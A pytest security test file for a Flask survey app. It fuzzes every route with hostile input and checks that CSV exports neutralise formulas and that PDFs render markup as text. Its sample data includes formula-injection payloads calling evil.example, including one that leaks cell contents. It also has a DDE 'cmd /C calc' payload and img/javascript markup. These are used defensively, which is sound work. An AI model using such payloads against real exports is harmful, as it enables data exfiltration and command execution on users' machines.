"""Hostile input on every route: no 500s (issue 14, defect 5), and the injection holes of
CSV exports (defect 6) and PDF paragraphs (defect 7), names and download headers (defect 3).

The route-wide fuzz walks the app's whole URL map, logged in as an administrator (the
deepest code paths), with NUL bytes, over-long text, ids beyond 64 bits, invalid UTF-8
and wrong methods, on SQLite and (in CI) PostgreSQL.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask import url_for
from flask.testing import FlaskClient
from sqlalchemy import func
from sqlalchemy import select
from sqlalchemy import update
from sqlalchemy.orm import Session
from survey_testlib import FEATURES
from survey_testlib import FEATURES_PAGES
from survey_testlib import complete
from survey_testlib import open_wave

from survey.models import Invitation
from survey.models import Wave
from survey.sample import import_sample
from survey.services import create_invitations
from survey.services import create_user

PASSWORD = "a long enough password"
HUGE = "99999999999999999999999"  # beyond 64 bits
LONG = "长" * 5000
SAMPLE = (
    b"household_id,stratum,town,psu,prob1,prob2,prob3,note\n"
    b'"=HYPERLINK(""http://evil.example/"",""x"")",s1,'  # a formula, a DDE call, an @
    b"\"+cmd|' /C calc'!A0\",p1,0.2,0.5,0.5,@SUM(A1)\n"
    b"h2,s1,town2,p1,0.2,0.5,0.5,-2+3\n"
)
#: form fields any view of the app reads, each sent with every hostile value
FIELDS = (
    "username", "password", "count", "stratum", "psu", "town", "status", "households",
    "settings", "decision", "reason", "disposition", "note", "name", "bundled", "survey_year",
    "modes", "rev", "page", "role", "action", "mode", "lat", "lon", "acc", "gps_consent",
    "opens_at", "closes_at", "q_sex", "q_birth_year", "q_remark", "q_channels", "member_label",
    "member_sex", "member_age", "v_volunteers", "n_volunteers", "c_volunteers",
    "v_volunteer_teams", "n_volunteer_teams",
)  # fmt: skip
HOSTILE = {"nul": "a\x00b", "long": LONG, "huge": HUGE, "markup": '<img src="/etc/passwd"/>'}
#: valid values of the choice fields, so that the free texts beside them reach the database
BASE = {"count": "1", "status": "open", "decision": "rejected", "disposition": "2.11",
        "rev": "0", "page": "about", "role": "viewer", "action": "add", "mode": "web",
        "bundled": "features.yaml", "survey_year": "2025", "modes": "web", "q_sex": "1",
        "q_birth_year": "1980", "q_occupation": "farmer", "member_sex": "1",
        "member_age": "40", "gps_consent": "1", "lat": "29.3", "lon": "120.1"}  # fmt: skip
TEXTS = tuple(f for f in FIELDS if f not in BASE)


@pytest.fixture
def admin(app: Flask, session: Session) -> FlaskClient:
    create_user(session, "ada", PASSWORD, actor="t", role="admin")
    open_wave(session, open_recruitment=True)
    client = app.test_client()
    r = client.post("/admin/login", data={"username": "ada", "password": PASSWORD})
    assert r.status_code == 303
    session.rollback()  # end the fixture's read transaction (SQLite: a stale snapshot)
    return client


def _routes(app: Flask, values: dict[str, str]) -> list[tuple[str, set[str], dict[str, str]]]:
    """``(endpoint, methods, arguments)`` of every route."""
    out = []
    for rule in app.url_map.iter_rules():
        if rule.endpoint == "static":
            continue
        methods = set(rule.methods or ()) - {"HEAD", "OPTIONS"}
        out.append((rule.endpoint, methods, {k: values[k] for k in rule.arguments}))
    return out


def _path(app: Flask, endpoint: str, args: dict[str, Any]) -> str:
    with app.test_request_context():
        return url_for(endpoint, **args)


def test_route_wide_fuzz_never_gives_a_server_error(
    app: Flask, admin: FlaskClient, session: Session
) -> None:
    """Every route x (NUL, long text, huge ids, invalid UTF-8 in the path, the query and
    every form field; wrong methods): a 4xx with a message or a success, never a 500."""
    token = create_invitations(session, "w1", 1, actor="t")[0]
    create_user(session, "ivy", PASSWORD, actor="t", role="interviewer")
    import_sample(session, "w1", b"household_id,stratum,psu,interviewer\nh1,s,p,ivy\n",
                  actor="t", mode="capi")  # fmt: skip
    case_id = session.scalar(select(Invitation.id).where(Invitation.household_id == "h1"))
    session.rollback()
    ivy = app.test_client()
    assert ivy.post("/admin/login", data={"username": "ivy", "password": PASSWORD}).status_code
    values = {"name": "w1", "token": token, "section": "about", "fmt": "csv",
              "case_id": str(case_id), "response_id": "1", "sid": "1", "school": "s1",
              "invitation_id": "1", "token_id": "1", "username": "ivy",
              "round_name": "2025年度", "unit": "tsw", "evidence_id": "1"}  # fmt: skip
    # capacity reporting: an open round and a unit reporter (who reaches the unit's pages)
    import datetime as dt

    from survey.capacity.services import bind_reporter
    from survey.capacity.services import open_round

    open_round(session, "2025年度", 2025, dt.date(2026, 1, 31), None, actor="t")
    create_user(session, "rita", PASSWORD, actor="t", role="reporter")
    bind_reporter(session, "rita", "tsw", actor="t")
    rita = app.test_client()
    assert rita.post("/admin/login", data={"username": "rita", "password": PASSWORD}).status_code
    failures: list[str] = []
    sent = 0

    def check(method: str, path: str, **kwargs: Any) -> None:
        nonlocal sent
        sent += 1
        r = client.open(path, method=method, **kwargs)
        body = r.get_data()
        if r.status_code >= 500 or (r.status_code >= 400 and not body):
            failures.append(f"{method} {path[:80]!r} {str(kwargs)[:80]}: {r.status_code}")

    # the admin reaches every route; the interviewer the CAPI pages as their owner
    runs = [(admin, e, m, a) for e, m, a in _routes(app, values)]
    runs += [(ivy, e, m, a) for e, m, a in _routes(app, values) if e.startswith("capi.")]
    runs += [(rita, e, m, a) for e, m, a in _routes(app, values) if e.startswith("capacity.")]
    for client, endpoint, methods, args in runs:
        good = _path(app, endpoint, args)
        paths = [good]
        for key in args:  # each path argument replaced by each hostile value
            for bad in (*HOSTILE.values(), "%FF%FE"):
                text = _path(app, endpoint, {**args, key: "7654321"})
                paths.append(text.replace("7654321", bad.replace("\x00", "%00")[:300]))
        for method in sorted(methods):
            for path in paths:
                check(method, path)
            for value in HOSTILE.values():
                check(method, good + "?lang=en&after=" + value[:100] + "&limit=" + HUGE)
                if method == "POST":
                    check(method, good, data={f: value for f in FIELDS})
                    check(method, good, data={**BASE, **{f: value for f in TEXTS}})
            if method == "POST":  # invalid UTF-8 in a urlencoded body and a multipart one
                raw = b"&".join(f.encode() + b"=%FF%FE\xff" for f in FIELDS)
                check(method, good, data=raw, content_type="application/x-www-form-urlencoded")
                check(method, good, data={"file": (io.BytesIO(b"\xff\xfe\x00"), "a\x00.csv")})
        for wrong in sorted({"GET", "POST", "PUT", "DELETE", "PATCH"} - methods):
            r = client.open(good, method=wrong)
            sent += 1
            if r.status_code != 405:
                failures.append(f"{wrong} {good}: {r.status_code} (expected 405)")
    assert sent > 700  # 779 when written
    assert not failures, "\n".join(failures)


def test_nul_bytes_are_refused_with_a_message(admin: FlaskClient) -> None:
    """Regression: a NUL in the login name was a 500 on PostgreSQL."""
    r = admin.post("/admin/login", data={"username": "ad\x00a", "password": PASSWORD})
    assert r.status_code == 400 and "空字符" in r.get_data(as_text=True)
    r = admin.get("/api/health?x=%00", headers={"Accept": "application/json"})
    assert r.status_code == 400 and "NUL" in r.json["message"]  # type: ignore[index]


def test_text_longer_than_its_column_is_a_400_on_every_database(
    admin: FlaskClient, session: Session
) -> None:
    """Regression: invite town/stratum/psu > 64 characters was a 500 on PostgreSQL (and
    silently stored on SQLite)."""
    before = session.scalar(select(func.count()).select_from(Invitation))
    session.rollback()
    for field in ("town", "stratum", "psu"):
        r = admin.post("/admin/waves/w1/invite", data={"count": "2", field: "x" * 65})
        assert r.status_code == 400 and "64" in r.get_data(as_text=True), field
    assert session.scalar(select(func.count()).select_from(Invitation)) == before


def test_ids_beyond_the_database_range_are_404(admin: FlaskClient) -> None:
    for path in (f"/field/cases/{HUGE}", "/field/cases/2147483648", "/field/cases/0",
                 f"/admin/waves/w1/responses/{HUGE}/review"):  # fmt: skip
        method = "POST" if path.endswith("review") else "GET"
        assert admin.open(path, method=method).status_code == 404, path


# -- wave names and download names (defect 3) --------------------------------------------------
@pytest.mark.parametrize("name", ["义乌2026", "w²", "a b", "a/b", "x" * 65, ""])
def test_wave_names_are_ascii_letters_digits_and_dash_underscore_dot(
    admin: FlaskClient, name: str
) -> None:
    r = admin.post("/admin/waves/new", data={"name": name, "bundled": "yiwu-csl-2025.yaml"})
    assert r.status_code == 400


def test_downloads_of_a_non_ascii_wave_name_are_encoded(
    admin: FlaskClient, session: Session
) -> None:
    """A wave named before the check (义乌2026) still exports: RFC 6266 filename*."""
    session.execute(update(Wave).where(Wave.name == "w1").values(name="义乌2026"))
    session.commit()
    for fmt in ("csv", "codebook-csv", "cases"):
        r = admin.get(f"/admin/waves/义乌2026/export/{fmt}")
        assert r.status_code == 200 and r.data, fmt
        disposition = r.headers["Content-Disposition"]
        assert "filename*=UTF-8''%E4%B9%89%E4%B9%8C2026" in disposition
        assert disposition.isascii()
    r = admin.get("/admin/waves/义乌2026/links.csv")
    assert r.status_code == 200 and "filename*=UTF-8''" in r.headers["Content-Disposition"]


# -- CSV formula injection (defect 6) ---------------------------------------------------------
def _csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_exports_neutralise_formulas(
    app: Flask, admin: FlaskClient, session: Session, tmp_path: Path
) -> None:
    import pyreadstat

    token = create_invitations(session, "w1", 1, actor="t")[0]
    pages = {k: dict(v) for k, v in FEATURES_PAGES.items()}
    pages["about"]["q_remark"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    complete(app.test_client(), token, pages)
    import_sample(session, "w1", SAMPLE, actor="t", mode="web")
    rows = _csv(admin.get("/admin/waves/w1/export/csv").data)
    remark = next(r["remark"] for r in rows if r["remark"])
    assert remark == "'" + pages["about"]["q_remark"]
    assert all(not v.startswith(("=", "+", "@")) for r in rows for v in r.values())
    links = _csv(admin.get("/admin/waves/w1/links.csv").data)
    assert links[-2]["household_id"].startswith("'=HYPERLINK") and links[-2]["town"][0] == "'"
    cases = _csv(admin.get("/admin/waves/w1/export/cases").data)
    assert cases[-2]["household_id"].startswith("'=") and cases[-1]["household_id"] == "h2"
    assert all(v == "" or v[0] not in "=+@" for r in cases for v in r.values())
    assert cases[-1]["prob1"] == "0.2"  # numbers stay numbers
    # the statistics files keep the raw text
    sav = tmp_path / "w1.sav"
    sav.write_bytes(admin.get("/admin/waves/w1/export/sav").data)
    frame, _ = pyreadstat.read_sav(str(sav))
    assert pages["about"]["q_remark"] in set(frame["remark"])


# -- ReportLab markup (defect 7) --------------------------------------------------------------
MARKUP = '<img src="/etc/passwd" width="50" height="50"/><a href="javascript:alert(1)">x</a>'


def _markup_questionnaire() -> bytes:
    text = FEATURES.read_text(encoding="utf-8")
    title = re.search(r"^title:.*$", text, re.M)
    assert title is not None
    escaped = MARKUP.replace('"', '\\"')
    return text.replace(
        title.group(0), f'title:\n  zh-CN: "{escaped}"\n  en: "{escaped}"', 1
    ).encode()


def _pdf_has_no_injected_objects(pdf: bytes) -> str:
    from pypdf import PdfReader

    reader = PdfReader(io.BytesIO(pdf))
    for page in reader.pages:
        for annot in page.get("/Annots") or []:  # the report's own TOC links are internal
            action = annot.get_object().get("/A") or {}
            assert "/URI" not in action, f"a link was made: {action}"
        xobjects = page["/Resources"].get("/XObject") or {}
        assert not any(x.get_object().get("/Subtype") == "/Image" for x in xobjects.values())
    return "".join(page.extract_text() for page in reader.pages)


def test_codebook_pdf_prints_markup_as_text(admin: FlaskClient, session: Session) -> None:
    from survey.services import create_wave

    create_wave(session, name="m1", questionnaire_data=_markup_questionnaire(),
                source_name="m.yaml", actor="t")  # fmt: skip
    r = admin.get("/admin/waves/m1/export/codebook-pdf")
    assert r.status_code == 200
    text = _pdf_has_no_injected_objects(r.data)
    assert 'img src="/etc/passwd"' in text.replace("\n", "")


def test_report_and_qr_sheet_escape_user_text() -> None:
    import numpy as np

    from questionnaires import parse_questionnaire
    from reports.api import build_report_for_table
    from scoring import score_responses
    from survey.sample import InvitationLink
    from survey.sample import qr_sheet_pdf

    link = InvitationLink(MARKUP, "s", "p", MARKUP, "web", "", "http://127.0.0.1:5123/s/x")
    _pdf_has_no_injected_objects(qr_sheet_pdf([link], title=MARKUP, town_labels={}))
    q = parse_questionnaire(_markup_questionnaire(), source="m.yaml")
    answers = []
    for i in range(30):
        one = {k[2:]: v for page in FEATURES_PAGES.values() for k, v in page.items() if v}
        one.update(sex="1" if i % 2 else "2", birth_year=1975 + i, S1="T" if i % 3 else "F")
        one["farm_years"] = 12
        answers.append(one)
    table: dict[str, Any] = {
        k: np.asarray(v) for k, v in score_responses(q, answers).columns().items()
    }
    table.update(respondent_id=np.arange(30), stratum=np.array(["s"] * 30),
                 psu=np.array([f"p{i % 6}" for i in range(30)]))  # fmt: skip
    # a report needs every key group's flag (else it stops: a group would silently vanish)
    flags = [q.group_flags(a, q.reference_year) for a in answers]
    table.update({f"group_{g.id}": np.array([int(f[g.id]) for f in flags]) for g in q.groups})
    text = _pdf_has_no_injected_objects(build_report_for_table(table, q, lang="en"))
    assert 'img src="/etc/passwd"' in text.replace("\n", "")
